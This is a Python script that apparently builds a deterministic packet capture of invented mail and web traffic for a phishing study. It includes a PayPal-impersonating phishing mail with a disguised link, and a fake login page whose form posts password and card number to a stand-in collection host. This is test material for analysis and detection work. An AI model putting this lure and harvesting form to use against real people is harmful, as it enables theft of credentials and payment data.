"""The traffic of `examples/phishing-study`: invented mails and pages, as packets, byte by byte the same each time.

    alice  reads a plain mail and a phishing mail in a web mailer, follows the link, and types her password
    bob    gets three mails by POP3: lunch, spam, the phishing mail; logs in at his bank's real page
    mx     takes the same mails by SMTP

Written again with `PYTHONPATH=tests/pcaps python tests/makers/phishing_traffic.py`.
"""

from __future__ import annotations

import sys
from collections.abc import Sequence
from pathlib import Path

from packets import Conversation
from pcapfile import Captured, write_pcapng

PLACE = Path(__file__).resolve().parents[2] / "examples" / "phishing-study" / "traffic.pcapng"
_START_NS = 1_700_000_000 * 10**9
_MACS = (bytes.fromhex("020000000001"), bytes.fromhex("020000000002"))
ALICE, BOB, MX = bytes([192, 0, 2, 10]), bytes([192, 0, 2, 11]), bytes([192, 0, 2, 25])
RELAY, MAILER, BANK = bytes([198, 51, 100, 25]), bytes([198, 51, 100, 80]), bytes([198, 51, 100, 90])
TRAP = bytes([203, 0, 113, 66])
Turn = tuple[int, bytes]

_HEAD = (
    "From: {}\r\nTo: bob@campus.example\r\nSubject: {}\r\nDate: Tue, 14 Nov 2023 22:13:20 +0000\r\n"
    "Message-ID: <{}@campus.example>\r\n"
)
LUNCH = (_HEAD.format("Ann <ann@campus.example>", "Lunch", 1) + "\r\nNoon, at the usual place?\r\n").encode()
# The engine's documented test string: any filter calls it spam.
GTUBE = "XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"
SPAM = (_HEAD.format("offers@shop.example", "CHEAP OFFERS", 2) + f"\r\n{GTUBE}\r\n").encode()
_TRAP_LINK = '<a href="http://203.0.113.66/paypal/login">https://www.paypal.com/signin</a>'
_TRAP_HTML = (
    "<html><body><p>Dear customer, your account will be limited. Verify your password and credit card now: "
    f"{_TRAP_LINK}</p></body></html>"
)
PHISH = (
    _HEAD.format('"PayPal Security" <service@paypal-secure.example>', "URGENT: verify your account", 3)
    + f"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{_TRAP_HTML}\r\n"
).encode()


def _page(title: str, body: str) -> bytes:
    return f"<!DOCTYPE html><html><head><title>{title}</title></head><body>{body}</body></html>".encode()


def _mail_page(sender: str, address: str, subject: str, body: str) -> bytes:
    link = f'<a href="mailto:{address}">{sender}</a>'
    rows = f'<tr><td class="header-title">From</td><td class="header from">{link}</td></tr>'
    rows += '<tr><td class="header-title">To</td><td class="header to">bob@campus.example</td></tr>'
    message = f'<div class="message-htmlpart" id="message-htmlpart1"><div class="rcmBody">{body}</div></div>'
    table = f'<table class="headers-table">{rows}</table>'
    return _page(subject, f'<h2 class="subject">{subject}</h2>{table}<div id="messagebody">{message}</div>')


TRAP_PAGE = _page(
    "Log in to your PayPal account",
    '<form method="post" action="http://203.0.113.66/collect.php"><input type="text" name="mail">'
    '<input type="password" name="pass"><input name="cardnumber" placeholder="Card number"></form>',
)
BANK_PAGE = _page(
    "Campus Bank", '<form method="post" action="/session"><input name="user"><input type="password" name="pass"></form>'
)


def _get(host: str, uri: str, page: bytes) -> list[Turn]:
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(page)}\r\n\r\n"
    return [(0, f"GET {uri} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()), (1, head.encode() + page)]


def _post(host: str, uri: str, form: bytes) -> list[Turn]:
    head = f"POST {uri} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    return [
        (0, f"{head}Content-Length: {len(form)}\r\n\r\n".encode() + form),
        (1, b"HTTP/1.1 302 Found\r\nLocation: https://www.paypal.com/\r\nContent-Length: 0\r\n\r\n"),
    ]


def _smtp(mails: Sequence[bytes]) -> list[Turn]:
    turns: list[Turn] = [(1, b"220 mx.campus.example ESMTP\r\n"), (0, b"HELO relay.example\r\n"), (1, b"250 ok\r\n")]
    for mail in mails:
        turns += [
            (0, b"MAIL FROM:<bounce@relay.example>\r\n"), (1, b"250 ok\r\n"),
            (0, b"RCPT TO:<bob@campus.example>\r\n"), (1, b"250 ok\r\n"),
            (0, b"DATA\r\n"), (1, b"354 go on\r\n"), (0, mail + b".\r\n"), (1, b"250 taken\r\n"),
        ]  # fmt: skip
    return [*turns, (0, b"QUIT\r\n"), (1, b"221 bye\r\n")]


def _pop3(mails: Sequence[bytes]) -> list[Turn]:
    turns: list[Turn] = [
        (1, b"+OK ready\r\n"),
        (0, b"USER bob\r\n"),
        (1, b"+OK\r\n"),
        (0, b"PASS invented\r\n"),
        (1, b"+OK\r\n"),
    ]
    for number, mail in enumerate(mails, 1):
        turns += [(0, f"RETR {number}\r\n".encode()), (1, b"+OK\r\n" + mail + b".\r\n")]
    return [*turns, (0, b"QUIT\r\n"), (1, b"+OK bye\r\n")]


def _talks() -> list[tuple[bytes, bytes, int, list[Turn]]]:
    show = "/?_task=mail&_mbox=INBOX&_uid={}&_action=show"
    lunch = _mail_page("Ann", "ann@campus.example", "Lunch", "<p>Noon, at the usual place?</p>")
    trap = _mail_page("PayPal Security", "service@paypal-secure.example", "URGENT: verify your account", _TRAP_HTML)
    mails = [LUNCH, SPAM, PHISH]
    mailer, place = "mail.campus.example", "203.0.113.66"
    read = _get(mailer, show.format(1), lunch) + _get(mailer, show.format(2), trap)
    trapped = _get(place, "/paypal/login", TRAP_PAGE) + _post(place, "/collect.php", b"pass=invented")
    return [
        (RELAY, MX, 25, _smtp(mails)),
        (ALICE, MAILER, 80, read),
        (ALICE, TRAP, 80, trapped),
        (BOB, MX, 110, _pop3(mails)),
        (BOB, BANK, 80, _get("bank.campus.example", "/login", BANK_PAGE)),
    ]


def packets() -> list[Captured]:
    """All of it, a packet each millisecond."""
    out: list[bytes] = []
    for number, (client, server, port, turns) in enumerate(_talks()):
        talk = Conversation(macs=_MACS, hosts=(client, server), ports=(20_000 + number, port))
        talk.open()
        for side, content in turns:
            talk.send(side, content)
        out += talk.close()
    return [Captured(_START_NS + number * 10**6, packet, len(packet)) for number, packet in enumerate(out)]


if __name__ == "__main__":
    write_pcapng(Path(sys.argv[1]) if len(sys.argv) > 1 else PLACE, packets())
